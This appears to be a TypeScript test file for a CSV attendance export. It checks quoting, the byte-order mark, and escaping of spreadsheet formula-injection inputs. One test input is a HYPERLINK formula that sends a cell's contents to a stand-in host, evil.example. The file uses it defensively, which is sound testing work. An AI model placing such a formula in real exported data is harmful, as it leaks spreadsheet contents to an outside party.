import { attendanceCsv } from './attendanceCsv';

const person = (name: string, over: object = {}) => ({
  name, joinedAt: '2026-05-02T10:00:00.000Z', came: null, cannotComeSince: null, ...over,
});
const nameCell = (name: string) => attendanceCsv([person(name)]).split('\r\n')[1]?.replace(/,"2026.*$/s, '');

it('has a mark for spreadsheets, a heading, and a line for everybody', () => {
  const people = [person('Zoë', { came: true }), person('محمد', { came: false, cannotComeSince: '2026-05-02T10:00:00.000Z' })];
  expect(attendanceCsv(people)).toBe(
    '\uFEFF"Name","Joined","Came","Cannot come"\r\n'
    + '"Zoë","2026-05-02T10:00:00.000Z","yes",""\r\n"محمد","2026-05-02T10:00:00.000Z","","yes"\r\n',
  );
});

it.each(['=1+1', '+49 30', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '=HYPERLINK("https://evil.example?"&A1)'])(
  'makes no formula of the name %j', (name) => {
    const csv = attendanceCsv([person(name)]);
    expect(csv).toContain(`"'${name.replaceAll('"', '""')}"`);
  });

it('quotes commas, quotes and line breaks', () => {
  expect(nameCell('Ann, "the" Bee')).toBe('"Ann, ""the"" Bee"');
  expect(attendanceCsv([person('Two\nlines')])).toContain('"Two\nlines"');
});
